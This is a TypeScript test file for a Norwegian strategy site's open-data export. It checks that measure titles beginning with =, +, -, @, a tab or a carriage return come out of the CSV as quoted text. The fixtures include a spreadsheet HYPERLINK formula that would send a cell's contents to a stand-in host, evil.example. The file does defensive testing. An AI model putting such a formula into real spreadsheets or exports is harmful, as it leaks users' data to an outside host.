/**
 * The open data files as a spreadsheet or a script reads them: formulas in the CSV are text, and the JSON's
 * bodies have been through the same sanitising as the pages.
 */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadSite, type SiteData } from '../src/lib/corpus.ts';
import { measuresCsv } from '../src/lib/open-data.ts';
import { fixtureContent } from './helpers.ts';

const scratch = mkdtempSync(path.join(tmpdir(), 'strategi-open-data-'));
const content = path.join(scratch, 'content');

/** A working-draft measure with `title` written as the YAML scalar `yamlTitle`. */
function measure(id: string, yamlTitle: string): void {
  writeFileSync(
    path.join(content, 'tiltak', `${id}.md`),
    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planlagt\n---\nTekst.\n`,
  );
}

let site: SiteData;
beforeAll(async () => {
  cpSync(fixtureContent, content, { recursive: true });
  measure('T-20', `'=HYPERLINK("https://evil.example/?q="&A1,"klikk")'`);
  measure('T-21', "'+1'");
  measure('T-22', "'-1'");
  measure('T-23', "'@SUM(A1:A9)'");
  measure('T-24', '"\\tTab først"');
  measure('T-25', '"\\r=1+1"');
  measure('T-26', "'Vanlig tittel - med = og +'");
  site = await loadSite(content, 'preview', scratch);
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('tiltak.csv', () => {
  test('a title a spreadsheet would run as a formula is written as text', () => {
    const working = site.editions.find((edition) => edition.id === 'utkast')!;
    const rows = measuresCsv(working).split('\r\n');
    const row = (id: string) => rows.find((line) => line.startsWith(`${id},`));
    const rest = ',planlagt,2025,2027,barnehage,KD,,M-1,,,false,nb';
    expect(row('T-20')).toBe(`T-20,"'=HYPERLINK(""https://evil.example/?q=""&A1,""klikk"")"${rest}`);
    expect(row('T-21')).toBe(`T-21,'+1${rest}`);
    expect(row('T-22')).toBe(`T-22,'-1${rest}`);
    expect(row('T-23')).toBe(`T-23,'@SUM(A1:A9)${rest}`);
    expect(row('T-24')).toBe(`T-24,'\tTab først${rest}`);
    expect(measuresCsv(working)).toContain(`\r\nT-25,"'\r=1+1"${rest}\r\n`);
    expect(row('T-26')).toBe(`T-26,Vanlig tittel - med = og +${rest}`);
  });
});
